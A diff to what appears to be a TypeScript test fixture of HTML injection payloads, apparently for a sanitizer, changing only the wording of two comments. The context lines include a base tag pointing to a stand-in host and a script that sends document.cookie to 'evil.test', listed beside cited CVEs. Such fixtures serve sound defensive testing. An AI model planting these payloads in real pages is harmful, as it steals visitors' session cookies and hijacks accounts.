@@ -201,7 +201,7 @@ export const attacks: Readonly<Record<string, ReadonlyArray<string>>> = {
     "<div contenteditable slot=x is=x part=x>x</div>",
     '<div data-show="x" data-sent=1 accesskey=l draggable=true>x</div>'
   ],
-  /** Elements that belong to the whole document or embed another one. */
+  /** Elements that belong to the whole document or embed another document. */
   documents: [
     '<base href="https://evil.test/">',
     "<base target=_blank>",
@@ -253,8 +253,8 @@ export const attacks: Readonly<Record<string, ReadonlyArray<string>>> = {
     "<slot name=x>x"
   ],
   /**
-   * As found in other services: stored markup on a login page (CVE-2026-5468), URLs with code (CVE-2026-29192), URL
-   * text reflected in a page (CVE-2026-42849).
+   * Attacks found in other services: stored markup on a login page (CVE-2026-5468), URLs with code (CVE-2026-29192),
+   * URL text reflected in a page (CVE-2026-42849).
    */
   cves: [
     '<div><script>fetch("https://evil.test/?c="+document.cookie)</script></div>',
